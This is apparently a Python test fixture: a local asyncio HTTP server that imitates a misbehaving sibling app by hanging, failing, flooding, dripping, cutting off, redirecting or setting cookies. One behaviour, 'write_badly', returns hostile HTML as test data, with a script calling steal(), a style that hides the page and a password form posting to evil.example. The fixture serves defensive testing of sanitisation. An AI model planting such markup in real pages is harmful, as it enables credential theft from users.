"""A sibling app that behaves as a test wants: a bare server, which can misbehave in any way."""

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, urlsplit

Behaviour = Callable[[str, asyncio.StreamWriter], Coroutine[Any, Any, None]]


def answer(
    body: bytes, status: str = "200 OK", content_type: str = "text/html; charset=utf-8", *more: str
) -> bytes:
    lines = [
        f"HTTP/1.1 {status}",
        f"Content-Type: {content_type}",
        f"Content-Length: {len(body)}",
        *more,
        "",
        "",
    ]
    return "\r\n".join(lines).encode() + body


async def hang(_target: str, _writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(60)


async def fail(_target: str, writer: asyncio.StreamWriter) -> None:
    writer.write(answer(b"<p>stack trace</p>", "500 Internal Server Error"))


async def flood(_target: str, writer: asyncio.StreamWriter) -> None:
    """10 MB without saying so before."""
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n")
    for _ in range(160):
        writer.write(b"<p>" + b"x" * 65_536)
        await writer.drain()
    writer.close()


async def drip(_target: str, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5000\r\n\r\n")
    for _ in range(5000):
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.05)


async def break_off(_target: str, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 500\r\n\r\n<p>")
    await writer.drain()
    writer.close()


async def write_badly(_target: str, writer: asyncio.StreamWriter) -> None:
    body = (
        b"</main></body></html><!--hole:auth-menu--><div class=dates><b>Saturday"
        b"<script>steal()</script><style>body{display:none}</style>"
        b'<form action="https://evil.example/"><input type=password></form><img src=//evil/x.png'
    )
    writer.write(answer(body))


async def give_json(_target: str, writer: asyncio.StreamWriter) -> None:
    writer.write(answer(b'{"a": 1}', content_type="application/json"))


async def redirect(_target: str, writer: asyncio.StreamWriter) -> None:
    writer.write(answer(b"", "302 Found", "text/html", "Location: http://127.0.0.1:1/"))


async def set_cookies(target: str, writer: asyncio.StreamWriter) -> None:
    """Answer with the viewer, and try to mark the connection with his session."""
    viewer = viewer_of(target)
    writer.write(
        answer(
            f"<p>cart of {viewer}</p>".encode(),
            "200 OK",
            "text/html",
            f"Set-Cookie: session={viewer}; Path=/",
        )
    )


async def tell(target: str, writer: asyncio.StreamWriter) -> None:
    """Answer properly, with what was asked."""
    path, query = urlsplit(target).path, urlsplit(target).query
    writer.write(answer(f"<p>{path.rpartition('/')[2]} {query}</p>".encode()))


def viewer_of(target: str) -> str:
    asked = parse_qs(urlsplit(target).query)
    return (asked.get("user_id") or asked.get("session_id") or ["nobody"])[0]


@dataclass
class Sibling:
    """A server on a port of its own. `requests` are the heads it got, `behaviour` may change."""

    behaviour: Behaviour = tell
    requests: list[str] = field(default_factory=list)
    port: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def targets(self) -> list[str]:
        return [head.split(" ", 2)[1] for head in self.requests]

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode()
                self.requests.append(head)
                await self.behaviour(head.split(" ", 2)[1], writer)
                await writer.drain()


@asynccontextmanager
async def running(sibling: Sibling) -> AsyncIterator[Sibling]:
    tasks: set[asyncio.Task[None]] = set()

    def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.create_task(sibling.serve(reader, writer))
        tasks.add(task)
        task.add_done_callback(lambda _: writer.close())
        task.add_done_callback(tasks.discard)

    server = await asyncio.start_server(accept, "127.0.0.1", sibling.port)
    sibling.port = server.sockets[0].getsockname()[1]
    try:
        yield sibling
    finally:
        server.close()
        for task in list(tasks):
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        await asyncio.sleep(0)
